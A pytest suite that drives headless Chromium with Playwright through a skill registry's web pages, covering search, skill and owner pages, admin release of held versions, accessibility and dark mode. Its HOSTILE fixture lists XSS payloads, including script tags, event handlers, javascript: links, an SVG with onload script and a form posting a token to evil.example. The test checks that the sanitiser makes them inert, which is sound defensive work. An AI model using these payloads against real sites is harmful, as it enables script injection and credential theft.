"""The registry's pages in a real browser: Debian's headless Chromium driven by Playwright.

A registry runs on 127.0.0.1 (uvicorn, SQLite, a blob folder); skills are published
through its API as ``skillbook publish`` does; then the tests browse as a person would:
the home page and its search, a skill page and its files, an owner's page, an admin's
sign-in and review, with scripting on and off, on a phone and in dark mode. A hostile
``SKILL.md`` is opened with every request out of 127.0.0.1 intercepted and every
dialog recorded: nothing may fire.

Chromium comes from the system (``apt-get install chromium``; ``.ci/run`` installs it),
never from ``playwright install``. Without it (or without Playwright) the tests skip,
and fail where ``SKILLBOOK_HUB_REQUIRE_SERVICES=1`` (CI). Screenshots for docs/hub.md:
``SKILLBOOK_UPDATE_SCREENSHOTS=1 pytest tests/hub/test_web_pages.py -k screenshots``.
"""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import httpx
import pytest
from factories import write_skill

from skillbook.distribution.hub import catalog
from skillbook.distribution.hub.app import create_app
from skillbook.distribution.hub.client import PublishOptions, publish_path
from skillbook.distribution.hub.http import Hub
from skillbook.distribution.hub.server_config import HubSettings
from skillbook.distribution.hub.tokens import create_token

from .conftest import GENEROUS
from .helpers import HIGH_LINE, LiveServer, make_skill
from .processes import REPO, unavailable

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Route

pytestmark = pytest.mark.subprocess

CHROMIUM = Path(os.environ.get("SKILLBOOK_CHROMIUM", "/usr/bin/chromium"))
#: No sandbox (containers run as root), and nothing of Chromium's own reaching the network.
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SCREENSHOTS = REPO / "docs" / "images"
UPDATE_SCREENSHOTS = "SKILLBOOK_UPDATE_SCREENSHOTS"

README = """\
Fetch a forecast for a city and summarise it for the user.

## Steps

1. Read the city from the request.
2. Call the forecast service (see [the guide](references/guide.md)).
3. Answer in **two sentences**, with the temperature in °C.

| field | meaning |
|---|---|
| `temp` | degrees Celsius |
| `wind` | km/h |

![logo](img/logo.png)
"""

#: Every trick the sanitiser removes, and one request out per trick that would make one.
HOSTILE = """\
Helpful words first.

<script>alert('script')</script>
<script src="https://evil.example/x.js"></script>
<img src="x" onerror="alert('onerror')">
<img src="https://evil.example/beacon.png">
[click me](javascript:alert('link'))
<a href="jav&#x61;script:alert('entity')">entity link</a>
<svg onload="alert('svg')"><script>alert('svg-script')</script><circle r="4"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<object data="https://evil.example/x.swf"></object>
<details open ontoggle="alert('toggle')"><summary>more</summary>hidden</details>
<style>body { background: url(https://evil.example/style) }</style>
<form action="https://evil.example/steal"><input name="token"><button>Go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
![tracker](https://evil.example/track.gif)
<a href="img/evil.svg">the logo</a>
"""

EVIL_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg-file\')">'
    "<script>alert('svg-file-script')</script><circle r=\"4\"/></svg>\n"
)
#: A 1x1 PNG.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e5277cde0000000049454e44ae426082"
)


@dataclass
class Registry:
    url: str
    hub: Hub
    tokens: dict[str, str]
    fingerprint: str = ""
    statuses: dict[str, str] = field(default_factory=dict)


def _publish(url: str, token: str, folder: Path, **options: Any) -> str:
    with httpx.Client(timeout=60) as http:
        return publish_path(http, url, token, folder, PublishOptions(**options)).status


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory, browser: Browser) -> Iterator[Registry]:
    # ``browser`` first: without Chromium there is nothing to publish for.
    root = tmp_path_factory.mktemp("web")
    settings = HubSettings(
        database_url=f"sqlite:///{root / 'db' / 'metadata.sqlite3'}",
        blob_url=str(root / "blobs"),
        search_backend="bm25",
        rate_limits=GENEROUS,
    )
    hub = Hub.open(settings)
    with hub.db.session() as session:
        tokens = {h: create_token(session, h) for h in ("alice", "bob", "mallory")}
        tokens["root"] = create_token(session, "root", admin=True)
    with LiveServer(create_app(settings, hub=hub)) as server:
        reg = Registry(server.url, hub, tokens)
        src = root / "src"
        weather = write_skill(
            src / "weather",
            "weather",
            "Get a weather forecast for any city.",
            body=README,
            files={
                "references/guide.md": "# Forecast guide\n\nUse metric units.\n",
                "img/logo.png": PNG,
            },
        )
        _publish(server.url, tokens["alice"], weather, changelog="First release.")
        (weather / "references" / "guide.md").write_text(
            "# Forecast guide\n\nUse metric units, always.\n"
        )
        _publish(
            server.url,
            tokens["alice"],
            weather,
            version="1.1.0",
            changelog="The guide says **always**.",
        )
        notes = make_skill(src / "notes", "notes", "Take meeting notes and list the actions.")
        _publish(server.url, tokens["bob"], notes)
        # tool: 1.0.0 public, 1.1.0 held (a non-admin never sees it).
        tool = make_skill(src / "tool", "tool", "A helpful command-line tool.")
        _publish(server.url, tokens["bob"], tool)
        make_skill(tool, "tool", "A helpful command-line tool.", body=f"```sh\n{HIGH_LINE}```")
        reg.statuses["tool"] = _publish(server.url, tokens["bob"], tool, version="1.1.0")
        # gadget and widget: held at their first version; admins release them in the tests.
        for slug in ("gadget", "widget"):
            folder = make_skill(
                src / slug, slug, f"The {slug} installer.", body=f"```sh\n{HIGH_LINE}```"
            )
            reg.statuses[slug] = _publish(server.url, tokens["bob"], folder)
        hostile = write_skill(
            src / "hostile",
            "hostile",
            "Looks friendly.",
            body=HOSTILE,
            files={"img/evil.svg": EVIL_SVG},
        )
        reg.statuses["hostile"] = _publish(server.url, tokens["mallory"], hostile)
        if reg.statuses["hostile"] != "published":
            # What the scanner held, an admin let through: the page must still be inert.
            with hub.db.session() as session:
                catalog.release_version(session, "hostile", "1.0.0", actor="root", reason="test")
        detail = httpx.get(server.url + "/api/v1/skills/weather/versions/1.1.0").json()
        reg.fingerprint = detail["version"]["fingerprint"]
        yield reg
    hub.db.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    try:
        from playwright.sync_api import Error, sync_playwright
    except ImportError:
        unavailable("Playwright is not installed (pip install playwright; no `playwright install`)")
    if not CHROMIUM.is_file():
        unavailable(f"Chromium not found at {CHROMIUM} (apt-get install chromium)")
    with sync_playwright() as p:
        try:
            launched = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        except Error as exc:
            unavailable(f"Chromium at {CHROMIUM} did not start: {exc}")
        yield launched
        launched.close()


@dataclass
class Watch:
    """What a page tried: dialogs it opened and requests that would leave 127.0.0.1."""

    dialogs: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)


@pytest.fixture
def watched(browser: Browser) -> Iterator[tuple[BrowserContext, Watch]]:
    context = browser.new_context()
    watch = Watch()

    def intercept(route: Route) -> None:
        host = urlsplit(route.request.url).hostname
        if host != "127.0.0.1":
            watch.outside.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    def dialog(d: Dialog) -> None:
        watch.dialogs.append(d.message)
        d.dismiss()

    def opened(p: Page) -> None:
        p.on("dialog", dialog)

    context.route("**/*", intercept)
    context.on("page", opened)
    yield context, watch
    context.close()


@pytest.fixture
def page(watched: tuple[BrowserContext, Watch]) -> Iterator[Page]:
    context, watch = watched
    opened = context.new_page()
    yield opened
    # No page of any test opens a dialog or reaches out of 127.0.0.1.
    assert watch.dialogs == [] and watch.outside == []


def _sign_in(page: Page, registry: Registry) -> None:
    page.goto(registry.url + "/admin/login")
    page.get_by_label("Registry token").fill(registry.tokens["root"])
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(registry.url + "/admin")


def _card_names(page: Page) -> list[str]:
    return page.locator("ul.cards > li h3").all_inner_texts()


def test_the_home_page_lists_the_skills_and_its_search_finds_one(
    registry: Registry, page: Page
) -> None:
    page.goto(registry.url + "/")
    assert page.get_by_role("heading", level=1).inner_text() == "Skills"
    names = _card_names(page)
    assert {"Weather", "Notes", "Tool", "Hostile"} <= set(names)
    # Held at their first version: not listed for anyone.
    assert "gadget" not in " ".join(names).lower() or registry.statuses["gadget"] == "published"
    weather = page.locator("ul.cards > li", has_text="Weather")
    assert "@alice" in weather.inner_text() and "1.1.0" in weather.inner_text()
    assert weather.locator(".verdict").inner_text() == "Clean"
    search = page.get_by_role("searchbox", name="Search skills")
    search.fill("meeting notes")
    search.press("Enter")
    page.wait_for_url(re.compile(r"\?q=meeting\+notes$"))
    assert _card_names(page) == ["Notes"]
    assert "meeting notes" in page.get_by_role("heading", level=1).inner_text()


def test_a_skill_page_shows_readme_files_versions_verdict_and_install(
    registry: Registry, page: Page
) -> None:
    page.goto(registry.url + "/")
    page.get_by_role("link", name="Weather").click()
    page.wait_for_url(registry.url + "/skills/weather")
    assert page.get_by_role("heading", level=1).inner_text() == "Weather"
    readme = page.locator("article.readme")
    assert readme.get_by_role("heading", name="Steps").is_visible()
    assert readme.locator("strong").inner_text() == "two sentences"
    assert readme.locator("table td").first.inner_text() == "temp"
    # The skill's own image, served by the registry itself.
    logo = readme.get_by_role("img", name="logo")
    assert logo.evaluate("img => img.complete && img.naturalWidth") == 1
    files = page.locator("table.files tbody tr").all_inner_texts()
    assert [f.split("\t")[0] for f in files] == ["SKILL.md", "img/logo.png", "references/guide.md"]
    assert files[1].endswith(f"{len(PNG)} B")
    versions = page.locator("ol.versions > li")
    assert versions.count() == 2
    assert "The guide says always." in versions.nth(0).inner_text()
    assert "First release." in versions.nth(1).inner_text()
    assert page.locator("#scan-h + p .verdict").inner_text() == "Clean"
    commands = page.locator("pre.command").all_inner_texts()
    assert commands == [
        f"skillbook install weather --registry {registry.url}",
        f"CLAWHUB_REGISTRY={registry.url} clawhub install weather",
        f"OPENCLAW_CLAWHUB_URL={registry.url} openclaw skills install weather",
    ]
    assert registry.fingerprint in page.locator("dl.hashes").inner_text()
    # The README's link opens the file viewer; the older version shows the older text.
    readme.get_by_role("link", name="the guide").click()
    page.wait_for_url(re.compile(r"/skills/weather/files/references/guide\.md\?version=1\.1\.0$"))
    assert "metric units, always." in page.locator("pre.viewer").inner_text()
    page.go_back()
    versions.nth(1).get_by_role("link", name="1.0.0").click()
    page.get_by_role("link", name="references/guide.md").click()
    assert "always" not in page.locator("pre.viewer").inner_text()
    page.goto(registry.url + "/skills/weather/files/img/logo.png")
    assert page.get_by_text("A binary file").is_visible()


def test_owner_pages_and_clawhub_addresses(registry: Registry, page: Page) -> None:
    page.goto(registry.url + "/alice/weather")
    assert page.url == registry.url + "/skills/weather"
    page.get_by_role("link", name="@alice").first.click()
    page.wait_for_url(registry.url + "/u/alice")
    assert page.get_by_role("heading", level=1).inner_text() == "@alice"
    assert _card_names(page) == ["Weather"]
    page.goto(registry.url + "/u/bob")
    assert set(_card_names(page)) == {"Notes", "Tool"}
    missing = page.goto(registry.url + "/alice/notes")
    assert missing is not None and missing.status == 404


def test_held_versions_are_invisible_to_everyone_but_admins(registry: Registry, page: Page) -> None:
    assert registry.statuses["tool"] == "pending"
    page.goto(registry.url + "/skills/tool")
    assert page.locator("ol.versions > li").count() == 1
    assert "1.1.0" not in page.locator("main").inner_text()
    answer = page.goto(registry.url + "/skills/tool?version=1.1.0")
    assert answer is not None and answer.status == 404
    for slug in ("gadget", "widget"):
        answer = page.goto(registry.url + f"/skills/{slug}")
        assert answer is not None and answer.status == 404
    page.goto(registry.url + "/admin")
    assert page.url == registry.url + "/admin/login"
    page.goto(registry.url + "/?q=installer")
    assert _card_names(page) == []


def test_an_admin_signs_in_sees_a_held_version_and_releases_it(
    registry: Registry, page: Page
) -> None:
    assert registry.statuses["gadget"] == "pending"
    _sign_in(page, registry)
    held = page.locator("ul.held > li", has_text="gadget@1.0.0")
    assert held.locator(".verdict").inner_text() == "Held for review"
    assert "high" in held.locator("table.findings").inner_text()
    held.get_by_label("Reason to release gadget@1.0.0").fill("reviewed: our own installer")
    held.get_by_role("button", name="Release gadget@1.0.0").click()
    page.wait_for_url(registry.url + "/admin")
    assert page.get_by_role("status").inner_text() == "Released gadget@1.0.0."
    assert page.locator("ul.held > li", has_text="gadget@1.0.0").count() == 0
    assert "reviewed: our own installer" in page.locator("table.audit").inner_text()
    assert (
        httpx.get(registry.url + "/api/v1/download", params={"slug": "gadget"}).status_code == 200
    )
    # The admin sees tool's held version on its page, with the form to release it.
    page.goto(registry.url + "/skills/tool?version=1.1.0")
    assert "held for security review" in page.get_by_role("note").inner_text()
    assert page.get_by_role("button", name="Release 1.1.0").is_visible()
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url(registry.url + "/")
    answer = page.goto(registry.url + "/skills/tool?version=1.1.0")
    assert answer is not None and answer.status == 404


def _sign_in_as(page: Page, registry: Registry, handle: str) -> None:
    """Sign in with a publisher's token (not an admin's): the home page says so."""
    page.goto(registry.url + "/admin/login")
    page.get_by_label("Registry token").fill(registry.tokens[handle])
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(registry.url + "/")
    assert f"Signed in as @{handle}." in page.get_by_role("status").inner_text()


def test_an_owner_signs_in_and_sees_their_held_version_with_its_state(
    registry: Registry, page: Page
) -> None:
    assert registry.statuses["tool"] == "pending"  # bob's tool 1.1.0 is held
    _sign_in_as(page, registry, "bob")
    page.goto(registry.url + "/skills/tool")
    versions = page.locator("ol.versions > li")
    assert versions.count() == 2
    held = versions.filter(has_text="1.1.0")
    assert held.locator(".state").inner_text() == "Held: not downloadable"
    assert held.locator(".verdict").inner_text() == "Held for review"
    held.get_by_role("link", name="1.1.0").click()
    page.wait_for_url(re.compile(r"/skills/tool\?version=1\.1\.0$"))
    assert "held for security review" in page.get_by_role("note").inner_text()
    assert "high" in page.locator("table.findings").inner_text()
    assert page.get_by_role("button", name="Release 1.1.0").count() == 0  # admins only
    page.get_by_role("link", name="SKILL.md").click()
    assert HIGH_LINE.strip() in page.locator("pre.viewer").inner_text()
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url(registry.url + "/")
    answer = page.goto(registry.url + "/skills/tool?version=1.1.0")
    assert answer is not None and answer.status == 404


def test_another_owner_signed_in_does_not_see_it(registry: Registry, page: Page) -> None:
    _sign_in_as(page, registry, "alice")
    page.goto(registry.url + "/skills/tool")
    assert page.locator("ol.versions > li").count() == 1
    assert "1.1.0" not in page.locator("main").inner_text()
    answer = page.goto(registry.url + "/skills/tool?version=1.1.0")
    assert answer is not None and answer.status == 404


def test_the_pages_have_an_icon_and_nothing_answers_an_error(
    registry: Registry, watched: tuple[BrowserContext, Watch]
) -> None:
    context, _ = watched
    page = context.new_page()
    failed: list[tuple[str, int]] = []
    errors: list[str] = []
    page.on("response", lambda r: failed.append((r.url, r.status)) if r.status >= 400 else None)
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    for path in ("/", "/skills/weather", "/u/alice", "/admin/login"):
        page.goto(registry.url + path)
        page.wait_for_load_state("networkidle")
    assert failed == [] and errors == []
    assert page.locator("link[rel=icon]").get_attribute("href") == "/favicon.svg"
    icon = context.request.get(registry.url + "/favicon.svg")
    assert icon.status == 200 and icon.headers["content-type"] == "image/svg+xml"
    # What a browser or crawler asks for without a page naming an icon: no 404 either.
    assert context.request.get(registry.url + "/favicon.ico").status == 204


def _assert_no_hostile_markup(page: Page) -> None:
    found = page.evaluate(
        """() => {
        const bad = [];
        for (const el of document.querySelectorAll('*')) {
            const tag = el.tagName.toLowerCase();
            if (['script', 'iframe', 'svg', 'object', 'embed', 'style', 'form', 'base', 'meta']
                    .includes(tag) && !(tag === 'meta' && el.closest('head'))
                    && !(tag === 'form' && !el.closest('article'))) bad.push(tag);
            for (const a of el.attributes) {
                if (a.name.startsWith('on')) bad.push(tag + '[' + a.name + ']');
                if (['href', 'src', 'action', 'srcdoc', 'data'].includes(a.name)
                        && /^\\s*(javascript|data|vbscript):/i.test(a.value)) bad.push(tag + ' ' + a.value);
            }
        }
        return bad;
    }"""
    )
    assert found == []


def test_a_hostile_skill_runs_no_script_and_reaches_nothing_outside(
    registry: Registry, page: Page
) -> None:
    page.goto(registry.url + "/skills/hostile")
    page.wait_for_load_state("networkidle")
    assert "Helpful words first." in page.locator("article.readme").inner_text()
    _assert_no_hostile_markup(page)
    # Links that survive go nowhere dangerous; the SVG is a file to view, not markup.
    page.locator("article.readme").get_by_role("link", name="the logo").click()
    page.wait_for_url(re.compile(r"/skills/hostile/files/img/evil\.svg"))
    assert "<script>" in page.locator("pre.viewer").inner_text()  # shown as text
    _assert_no_hostile_markup(page)
    # Opened straight from the API, the SVG runs nothing either (sandboxed, no script).
    page.goto(registry.url + "/api/v1/skills/hostile/file?path=img/evil.svg")
    page.wait_for_load_state("load")
    # And an admin's session (the target worth the effort) sees the same inert page.
    _sign_in(page, registry)
    page.goto(registry.url + "/skills/hostile")
    page.wait_for_load_state("networkidle")
    _assert_no_hostile_markup(page)
    # The page fixture asserts: no dialog, no request outside 127.0.0.1.


def test_the_pages_work_with_javascript_off(registry: Registry, browser: Browser) -> None:
    context = browser.new_context(java_script_enabled=False)
    try:
        page = context.new_page()
        page.goto(registry.url + "/")
        page.get_by_role("searchbox", name="Search skills").fill("forecast")
        page.get_by_role("button", name="Search").click()
        page.wait_for_url(re.compile(r"\?q=forecast$"))
        page.get_by_role("link", name="Weather").click()
        assert page.locator("pre.command").count() == 3
        assert registry.statuses["widget"] == "pending"
        _sign_in(page, registry)
        held = page.locator("ul.held > li", has_text="widget@1.0.0")
        held.get_by_label("Reason to release widget@1.0.0").fill("reviewed with scripting off")
        held.get_by_role("button", name="Release widget@1.0.0").click()
        page.wait_for_url(registry.url + "/admin")
        assert page.get_by_role("status").inner_text() == "Released widget@1.0.0."
        page.goto(registry.url + "/skills/widget")
        assert page.get_by_role("heading", level=1).inner_text() == "Widget"
    finally:
        context.close()


def test_keyboard_users_reach_everything_and_fields_have_labels(
    registry: Registry, page: Page
) -> None:
    page.goto(registry.url + "/skills/weather")
    assert page.locator("h1").count() == 1
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to content"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    page.keyboard.press("Tab")
    focused = page.evaluate("document.activeElement.outerHTML")
    assert focused.startswith("<a ") and "/u/alice" in focused  # the first link inside main
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid"
    # Every input has a label a screen reader announces.
    unlabelled = page.evaluate(
        """() => [...document.querySelectorAll('input:not([type=hidden])')]
            .filter(i => !(i.labels && i.labels.length)).map(i => i.name)"""
    )
    assert unlabelled == []
    page.goto(registry.url + "/admin/login")
    assert page.get_by_label("Registry token").get_attribute("type") == "password"


def _background_luminance(page: Page) -> float:
    rgb = page.evaluate("getComputedStyle(document.documentElement).backgroundColor")
    r, g, b = (int(x) for x in re.findall(r"\d+", rgb)[:3])
    return (0.2126 * r + 0.7152 * g + 0.0722 * b) / 255


def test_a_phone_in_dark_mode_reads_the_pages_without_sideways_scrolling(
    registry: Registry, browser: Browser
) -> None:
    phone = browser.new_context(viewport={"width": 360, "height": 740}, color_scheme="dark")
    desk = browser.new_context(color_scheme="light")
    try:
        page = phone.new_page()
        for path in ("/", "/skills/weather", "/skills/hostile", "/u/bob", "/admin/login"):
            page.goto(registry.url + path)
            overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
            assert overflow <= 0, path
        assert _background_luminance(page) < 0.2
        light = desk.new_page()
        light.goto(registry.url + "/")
        assert _background_luminance(light) > 0.8
    finally:
        phone.close()
        desk.close()


def test_screenshots(registry: Registry, browser: Browser, tmp_path: Path) -> None:
    """The pictures in docs/hub.md (written there with SKILLBOOK_UPDATE_SCREENSHOTS=1)."""
    shots = {
        "registry-home.png": ("/", "light", {"width": 1200, "height": 800}),
        "registry-skill.png": ("/skills/weather", "light", {"width": 1200, "height": 1100}),
        "registry-skill-dark-phone.png": ("/skills/weather", "dark", {"width": 390, "height": 844}),
    }
    for name, (path, scheme, size) in shots.items():
        context = browser.new_context(viewport=size, color_scheme=scheme)  # type: ignore[arg-type]
        try:
            page = context.new_page()
            page.goto(registry.url + path)
            # A host-neutral address in the pictures, whatever port the test got.
            page.evaluate(
                """(url) => { for (const el of document.querySelectorAll('pre.command code'))
                       el.textContent = el.textContent.replaceAll(url, 'https://hub.example.com'); }""",
                registry.url,
            )
            target = tmp_path / name
            page.screenshot(path=str(target))
        finally:
            context.close()
        assert target.read_bytes().startswith(b"\x89PNG")
        if os.environ.get(UPDATE_SCREENSHOTS) == "1":
            SCREENSHOTS.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(target, SCREENSHOTS / name)


def test_the_pages_on_postgres_with_two_replicas_behind_a_proxy(
    browser: Browser, tmp_path: Path
) -> None:
    """The team deployment: PostgreSQL, an S3 store, two replicas, a round-robin proxy.

    Consecutive requests land on alternate replicas, so a sign-in on one and the
    release on the other show that sessions and CSRF tokens need no shared memory.
    """
    from .deployment import team_deployment
    from .processes import skillbook

    with team_deployment(tmp_path, bucket="web") as deployed:
        replicas, front_url = deployed.replicas, deployed.proxy
        env, store = deployed.env, deployed.store_args

        def token(*args: str) -> str:
            made = skillbook("registry", "token", "create", *args, *store, env=env)
            return made.stdout.strip()

        alice, ops = token("alice"), token("ops", "--admin")
        src = tmp_path / "src"
        weather = write_skill(src / "weather", "weather", "Get a weather forecast.", body=README)
        assert _publish(replicas[0], alice, weather, changelog="First.") == "published"
        held = make_skill(
            src / "gizmo", "gizmo", "The gizmo installer.", body=f"```sh\n{HIGH_LINE}```"
        )
        assert _publish(replicas[1], alice, held) == "pending"

        context = browser.new_context()
        served: list[str] = []
        context.on(
            "response",
            lambda r: (
                served.append(r.headers.get("x-upstream", ""))
                if r.request.resource_type == "document"
                else None
            ),
        )
        try:
            page = context.new_page()
            page.goto(front_url + "/")
            assert "Weather" in _card_names(page)
            page.get_by_role("searchbox", name="Search skills").fill("forecast")
            page.get_by_role("searchbox", name="Search skills").press("Enter")
            page.wait_for_url(re.compile(r"\?q=forecast$"))
            assert _card_names(page) == ["Weather"]
            page.get_by_role("link", name="Weather").click()
            assert page.locator("article.readme strong").inner_text() == "two sentences"
            assert page.goto(front_url + "/skills/gizmo").status == 404  # type: ignore[union-attr]
            page.goto(front_url + "/admin/login")
            page.get_by_label("Registry token").fill(ops)
            page.get_by_role("button", name="Sign in").click()
            page.wait_for_url(front_url + "/admin")
            entry = page.locator("ul.held > li", has_text="gizmo@1.0.0")
            entry.get_by_label("Reason to release gizmo@1.0.0").fill("reviewed on two replicas")
            entry.get_by_role("button", name="Release gizmo@1.0.0").click()
            page.wait_for_url(front_url + "/admin")
            assert page.get_by_role("status").inner_text() == "Released gizmo@1.0.0."
        finally:
            context.close()
        assert set(served) == set(replicas)
        for url in replicas:
            answer = httpx.get(url + "/api/v1/download", params={"slug": "gizmo"})
            assert answer.status_code == 200
